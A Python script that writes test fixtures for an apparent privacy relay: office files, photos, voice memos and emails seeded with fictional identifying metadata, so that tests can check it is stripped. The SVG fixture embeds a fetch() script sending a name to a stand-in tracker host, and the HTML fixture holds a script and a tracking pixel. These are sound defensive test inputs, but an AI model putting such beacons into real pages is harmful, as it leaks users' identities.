# ruff: noqa: E501  (the flat OpenDocument sources are kept as LibreOffice reads them, one element a line)
"""Write tests/fixtures/attachments/: real-world attachment shapes with planted identities.

Run once, by hand, where LibreOffice is installed (the files are committed, so CI does not
need it):

    apt-get install -y libreoffice-writer-nogui libreoffice-calc-nogui libreoffice-impress-nogui
    python -m tests.tools.make_attachment_fixtures

Documents are written by LibreOffice itself from flat OpenDocument sources that carry an
author, a title, a description, user-defined properties, comments with their authors,
tracked changes, user fields and a printer name; Word's people.xml and Excel's person
list, which LibreOffice does not write, are added to its docx/xlsx as Office writes them.
Images are written by Pillow with EXIF (GPS, artist), XMP and an ICC profile whose
description names the photographer. Every planted string is listed in PLANTED; the tests
(tests/test_attachment_corpus.py) check that none of them leaves the relay.
"""

from __future__ import annotations

import io
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

from PIL import ExifTags, Image, ImageCms

OUT = Path(__file__).resolve().parent.parent / "fixtures" / "attachments"
SEEKER = "Sam Janssens"
VOLUNTEER = "Veerle Peeters"
PLANTED = [SEEKER, "sam.janssens@thuis.example", "Kerkstraat 12", "0470 12 34 56",
           "198.51.100.99", "mama.janssens@thuis.example", "HP-Janssens-Bureau",
           "Sint-Jozefcollege", "Leerling Janssens", VOLUNTEER]

_OFFICE = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
_NS = (f'{_OFFICE} xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
       'xmlns:dc="http://purl.org/dc/elements/1.1/" '
       'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
       'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
       'xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0" '
       'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
       'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
       'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
       'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
       'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
       'xmlns:officeooo="http://openoffice.org/2009/office"')


def _meta(author: str) -> str:
    return (f"<office:meta><meta:initial-creator>{author}</meta:initial-creator>"
            f"<dc:creator>{author}</dc:creator><dc:title>Verslag van {author}</dc:title>"
            f"<dc:description>Geschreven door {author}, Kerkstraat 12</dc:description>"
            f"<dc:subject>Sint-Jozefcollege</dc:subject>"
            f"<meta:printed-by>{author}</meta:printed-by>"
            f'<meta:user-defined meta:name="Leerling">Leerling Janssens</meta:user-defined>'
            f"</office:meta>")


def _settings() -> str:
    return ("<office:settings><config:config-item-set config:name=\"ooo:configuration-settings\">"
            '<config:config-item config:name="PrinterName" config:type="string">'
            "HP-Janssens-Bureau</config:config-item></config:config-item-set></office:settings>")


def fodt(author: str, commenter: str) -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {_NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
{_meta(author)}
{_settings()}
<office:body><office:text>
<text:tracked-changes><text:changed-region text:id="ct1"><text:insertion><office:change-info>
<dc:creator>{author}</dc:creator><dc:date>2024-05-01T10:00:00</dc:date></office:change-info>
</text:insertion></text:changed-region></text:tracked-changes>
<text:user-field-decls><text:user-field-decl office:value-type="string" office:string-value="{author}" text:name="Naam"/></text:user-field-decls>
<text:p>Dit is mijn verslag over de week.<office:annotation><dc:creator>{commenter}</dc:creator>
<dc:date>2024-05-01T10:00:00</dc:date><text:p>Mooi zo</text:p></office:annotation></text:p>
<text:p><text:change-start text:change-id="ct1"/>Een ingevoegde zin.<text:change-end text:change-id="ct1"/></text:p>
</office:text></office:body></office:document>
"""


def fods(author: str, commenter: str) -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {_NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
{_meta(author)}
{_settings()}
<office:body><office:spreadsheet><table:table table:name="Blad1">
<table:table-row><table:table-cell office:value-type="string"><text:p>Weekplanning</text:p>
<office:annotation><dc:creator>{commenter}</dc:creator><text:p>Klopt dit?</text:p></office:annotation>
</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document>
"""


def fodp(author: str, commenter: str) -> str:
    """A presentation: a slide with a comment by `commenter` and speaker notes."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {_NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation">
{_meta(author)}
{_settings()}
<office:body><office:presentation>
<draw:page draw:name="Dia1" draw:master-page-name="Default">
<draw:frame presentation:class="title" svg:x="2cm" svg:y="1cm" svg:width="20cm" svg:height="3cm"><draw:text-box><text:p>Mijn spreekbeurt over vriendschap</text:p></draw:text-box></draw:frame>
<officeooo:annotation svg:x="1cm" svg:y="1cm"><dc:creator>{commenter}</dc:creator><dc:date>2024-05-01T10:00:00</dc:date><meta:creator-initials>LJ</meta:creator-initials><text:p>Nog een dia toevoegen?</text:p></officeooo:annotation>
<presentation:notes><draw:frame presentation:class="notes" svg:x="2cm" svg:y="14cm" svg:width="17cm" svg:height="10cm"><draw:text-box><text:p>Hier vertel ik hoe het echt gaat op school.</text:p></draw:text-box></draw:frame></presentation:notes>
</draw:page>
</office:presentation></office:body></office:document>
"""


def convert(source: Path, target_format: str, workdir: Path) -> bytes:
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{workdir}/profile",
                    "--convert-to", target_format, "--outdir", str(workdir), str(source)],
                   check=True, capture_output=True, timeout=180)
    extension = target_format.split(":", 1)[0]
    return (workdir / f"{source.stem}.{extension}").read_bytes()


def add_members(data: bytes, extra: dict[str, bytes]) -> bytes:
    """Members Office writes and LibreOffice does not (people.xml, persons, Company)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename in extra:
                content = extra.pop(info.filename)
            target.writestr(info, content)
        for name, content in extra.items():
            target.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def icc_naming(name: str) -> bytes:
    """An sRGB profile whose description is `name` (same length as lcms's own text)."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    own = "sRGB built-in".encode("utf-16-be")
    planted = name[:13].ljust(13).encode("utf-16-be")
    assert own in profile
    return profile.replace(own, planted)


def photo(fmt: str, author: str) -> bytes:
    im = Image.new("RGB", (64, 48), "teal")
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = author
    exif[ExifTags.Base.Make] = "Fairphone"
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (51.0, 3.0, 15.5), 3: "E", 4: (3.0, 43.0, 2.0)}
    xmp = (f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/'
           f'02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"'
           f' dc:creator="{author}" dc:rights="Kerkstraat 12"/></rdf:RDF></x:xmpmeta>').encode()
    out = io.BytesIO()
    if fmt == "PNG":
        from PIL.PngImagePlugin import PngInfo

        info = PngInfo()
        info.add_text("Author", author)
        info.add_itxt("XML:com.adobe.xmp", xmp.decode())
        im.save(out, "PNG", pnginfo=info, exif=exif, icc_profile=icc_naming(author))
    else:
        im.save(out, "JPEG", exif=exif, xmp=xmp, icc_profile=icc_naming(author))
    return out.getvalue()


def voice_memos(author: str) -> dict[str, bytes]:
    """An MP3 with ID3 artist and comment and an M4A with MP4 artist, title and comment, as a
    phone's recorder or an editor tags them (written with mutagen; the sound is silence)."""
    import struct

    from mutagen.id3 import COMM, ID3, TIT2, TPE1
    from mutagen.mp4 import MP4

    mp3 = io.BytesIO(b"".join([b"\xff\xfb\x90\x64" + b"\x00" * 413] * 40))
    tags = ID3()
    tags.add(TPE1(encoding=3, text=[author]))
    tags.add(TIT2(encoding=3, text=["Opname Kerkstraat 12"]))
    tags.add(COMM(encoding=3, lang="nld", desc="", text=[f"Ingesproken door {author}"]))
    tags.save(mp3)

    def atom(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", 8 + len(body)) + name + body

    matrix = b"\x00\x01\x00\x00" + b"\x00" * 12 + b"\x00\x01\x00\x00" + b"\x00" * 12 + \
        b"\x40\x00\x00\x00"
    mvhd = atom(b"mvhd", b"\x00" * 12 + struct.pack(">II", 1000, 2000) +
                b"\x00\x01\x00\x00\x01\x00" + b"\x00" * 10 + matrix + b"\x00" * 24 +
                b"\x00\x00\x00\x02")
    m4a = io.BytesIO(atom(b"ftyp", b"M4A \x00\x00\x00\x00M4A mp42isom") + atom(b"moov", mvhd)
                     + atom(b"mdat", b"\x00" * 256))
    memo = MP4(m4a)
    memo.add_tags()
    memo.tags["\xa9ART"] = [author]
    memo.tags["\xa9nam"] = ["Kerkstraat 12"]
    memo.tags["\xa9cmt"] = [f"Ingesproken door {author}"]
    m4a.seek(0)
    memo.save(m4a)
    return {"spraakmemo.mp3": mp3.getvalue(), "spraakmemo.m4a": m4a.getvalue()}


TEXTS = {
    "kaart.txt": (
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Sam Janssens\r\nTEL:0470 12 34 56\r\n"
        "ADR:;;Kerkstraat 12;Gent;;9000;BE\r\nEND:VCARD\r\n"),
    "uitnodiging.ics": (
        "Dit is een uitnodiging van Sam.\r\nBEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n"
        "ORGANIZER;CN=Sam Janssens:mailto:sam.janssens@thuis.example\r\n"
        "LOCATION:Kerkstraat 12\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
    "tekening.xml": (
        '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        "<script>fetch('https://tracker.example/?u=Sam Janssens')</script>"
        '<text x="0" y="10">Sam Janssens</text></svg>\n'),
    "pagina.html": (
        "<html><head><script>alert('Sam Janssens')</script></head><body>"
        "<p>Mijn dagboek, echt waar.</p><img src=\"https://tracker.example/p.gif?u=sam\">"
        "<p>Sam Janssens<br>Kerkstraat 12<br>0470 12 34 56</p></body></html>\n"),
    "eerdere-mail.txt": (
        "Received: from [198.51.100.99] by mail.thuis.example; Mon, 6 May 2024 08:00:00 +0200\n"
        "X-Originating-IP: [198.51.100.99]\n"
        "From: Sam Janssens <sam.janssens@thuis.example>\n"
        "To: Juf Marleen <marleen@school.example>\n"
        "Cc: Mama <mama.janssens@thuis.example>\n"
        "Date: Mon, 6 May 2024 08:00:00 +0200\n"
        "Subject: Afwezig\n\n"
        "Dag juf, ik kan morgen niet komen, het gaat niet goed met mij.\n\n"
        "Sam Janssens\nKerkstraat 12, 9000 Gent\n0470 12 34 56\n"),
    "doorgestuurd.eml": (
        "Received: from [198.51.100.99] by mail.thuis.example\n"
        "From: Sam Janssens <sam.janssens@thuis.example>\n"
        "To: Mentor <mentor@school.example>\n"
        "Date: Tue, 7 May 2024 09:00:00 +0200\n"
        "Subject: Gesprek\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
        "Kunnen we deze week praten? Het is dringend voor mij.\n\n"
        "Sam Janssens\n3B Sint-Jozefcollege\n"),
    "notities.csv": "naam;telefoon\nSam Janssens;0470 12 34 56\nvriendin;onbekend\n",
}


def main() -> None:
    if shutil.which("soffice") is None:
        raise SystemExit("LibreOffice (soffice) is needed to write the document fixtures")
    OUT.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        for who, prefix in ((SEEKER, "seeker"), (VOLUNTEER, "volunteer")):
            commenter = "Leerling Janssens" if who == SEEKER else VOLUNTEER
            (work / f"{prefix}.fodt").write_text(fodt(who, commenter))
            (work / f"{prefix}-sheet.fods").write_text(fods(who, commenter))
            odt = convert(work / f"{prefix}.fodt", "odt", work)
            docx = convert(work / f"{prefix}.fodt", "docx:MS Word 2007 XML", work)
            doc = convert(work / f"{prefix}.fodt", "doc:MS Word 97", work)
            pdf = convert(work / f"{prefix}.fodt",
                          'pdf:writer_pdf_Export:{"ExportNotes":{"type":"boolean",'
                          '"value":"true"}}', work)
            ods = convert(work / f"{prefix}-sheet.fods", "ods", work)
            xlsx = convert(work / f"{prefix}-sheet.fods", "xlsx:Calc MS Excel 2007 XML", work)
            (work / f"{prefix}-slides.fodp").write_text(fodp(who, commenter))
            pptx = convert(work / f"{prefix}-slides.fodp",
                           "pptx:Impress MS PowerPoint 2007 XML", work)
            people = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w15:people '
                      f'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
                      f'<w15:person w15:author="{who}"><w15:presenceInfo w15:providerId='
                      f'"AD" w15:userId="S::{who.lower().replace(" ", ".")}@thuis.example::1"/>'
                      f"</w15:person></w15:people>").encode()
            persons = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<personList '
                       f'xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/'
                       f'threadedcomments"><person displayName="{who}" id="{{0B2A}}" '
                       f'userId="{who}" providerId="None"/></personList>').encode()
            docx = add_members(docx, {"word/people.xml": people})
            xlsx = add_members(xlsx, {"xl/persons/person.xml": persons})
            name = who.replace(" ", "_")
            files = {f"{name}_CV.docx": docx, f"{name}_verslag.odt": odt,
                     f"{name}_oud.doc": doc, f"{name}_planning.xlsx": xlsx,
                     f"{name}_planning.ods": ods, f"{name}_folder.pdf": pdf,
                     f"{name}_spreekbeurt.pptx": pptx}
            for filename, data in files.items():
                (OUT / f"{prefix}-{filename}").write_bytes(data)
            (OUT / f"{prefix}-{name}_foto.jpg").write_bytes(photo("JPEG", who))
            (OUT / f"{prefix}-{name}_scherm.png").write_bytes(photo("PNG", who))
        import pikepdf

        with pikepdf.open(OUT / "seeker-Sam_Janssens_folder.pdf") as pdf:
            out = io.BytesIO()
            pdf.save(out, encryption=pikepdf.Encryption(owner="x", user="geheim"))
        (OUT / "seeker-Sam_Janssens_beveiligd.pdf").write_bytes(out.getvalue())
    for who, prefix in ((SEEKER, "seeker"), (VOLUNTEER, "volunteer")):
        for filename, data in voice_memos(who).items():
            (OUT / f"{prefix}-{who.replace(' ', '_')}_{filename}").write_bytes(data)
    for filename, text in TEXTS.items():
        (OUT / f"seeker-{filename}").write_text(text, newline="")


if __name__ == "__main__":
    main()
